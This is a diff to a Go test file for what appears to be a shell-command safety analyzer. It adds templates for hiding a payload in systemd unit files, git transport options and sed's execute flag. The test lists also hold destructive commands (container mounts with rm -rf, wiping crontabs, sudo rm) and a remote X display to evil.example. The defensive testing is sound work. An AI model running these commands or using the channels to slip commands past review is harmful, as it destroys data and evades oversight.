@@ -14,6 +14,14 @@ import (
 // the rest.
 
 var channelTemplates = map[string][]string{
+	"units": {
+		`printf '[Service]\nExecStart={P}\n' > ~/.config/systemd/user/x.service && systemctl --user start x`,
+		`printf '[Service]\nExecStartPre=-{P}\nExecStart=/bin/true\n' > /etc/systemd/system/y.service; systemctl restart y`,
+		`echo 'ExecStart=+{P}' > ~/.config/systemd/user/z.service && systemctl --user enable --now z.service`,
+	},
+	"git-transport": {
+		`git send-pack --receive-pack='{P};' . main`, `git fetch-pack --upload-pack='{P};' . main`, `git push --receive-pack='{P};' . main`,
+	},
 	"sed": {
 		`echo x | sed 'e {P}'`, `sed -e 'e {P}' f`, `sed --expression='1e {P}' f`, `sed -n '$ e {P}' f`,
 		`sed 's|.*|{P}|e' <<< x`, `sed 's#^.*$#{P}#e' <<< x`, `sed -E 's,(.*),{P},e' <<< x`, `sed 's|.*|{P}|ge' f`,
@@ -91,8 +99,10 @@ func TestCommandChannels(t *testing.T) {
 			}
 			for _, p := range benignPayloads {
 				line := fillPayload(tmpl, p)
-				if class == "container" || class == "wrappers" && strings.Contains(tmpl, "/etc") {
-					continue // a privileged container or find over /etc are judged for themselves
+				if class == "container" || class == "git-transport" || strings.Contains(tmpl, "/etc") {
+					// A privileged container, a transport program and writing or
+					// searching /etc are judged for themselves.
+					continue
 				}
 				if got := verdictClass(Analyze(line, exampleOptions).Findings); got != "allow" {
 					t.Errorf("%s: %q runs only %q but is judged %s: %v", class, line, p, got, channelIDs(Analyze(line, exampleOptions).Findings))
@@ -121,6 +131,8 @@ func TestCommandChannelTwins(t *testing.T) {
 		`/bin/l[s] -la`, `/usr/bin/ca? README.md`, `strace -f -o /dev/null ls`, `valgrind --log-file=v.log ./app`,
 		`xterm`, `DISPLAY=:0 xterm`, `xterm -display :1`, `xterm -display localhost:10.0`,
 		`[ -n "$CI" ] && echo ci`,
+		`sudo sh -c 'du -sh /home/dev/project'`, `sudo bash -lc 'cat /etc/os-release'`, `crontab mycron.txt`, `crontab -l`,
+		`systemctl --user start x`, `git send-pack origin main`,
 	} {
 		if got := verdictClass(Analyze(line, exampleOptions).Findings); got != "allow" {
 			t.Errorf("%q should run; judged %s: %v", line, got, channelIDs(Analyze(line, exampleOptions).Findings))
@@ -139,6 +151,7 @@ func TestCommandChannelHeld(t *testing.T) {
 		`podman run --rm -v $HOME:/data alpine sh -c 'rm -rf /data/*'`, `docker run -v /:/host alpine rm -rf /host/etc`,
 		`docker run --mount type=bind,source=/home/dev,target=/w alpine rm -rf /w`, `docker run -v ~/.ssh:/k alpine rm -rf /k`,
 		`nerdctl run -it -v "$HOME":/data:ro alpine sh -c 'rm -rf /data/*'`, `docker container run --volume=/etc:/e alpine rm -rf /e`,
+		`crontab /dev/null`, `crontab - < /dev/null`, `echo -n | crontab -`, `sudo sh -c 'rm -rf /tmp/x'`,
 		`xterm -display 10.0.0.1:1`, `DISPLAY=evil.example:0 xterm`, `export DISPLAY=10.0.0.1:0; xterm`, `urxvt -display h:1 -e bash`,
 		`echo 'rm -rf ~' | sed e`, `sed 's/x/rm -rf \//e' <<< x`,
 	} {
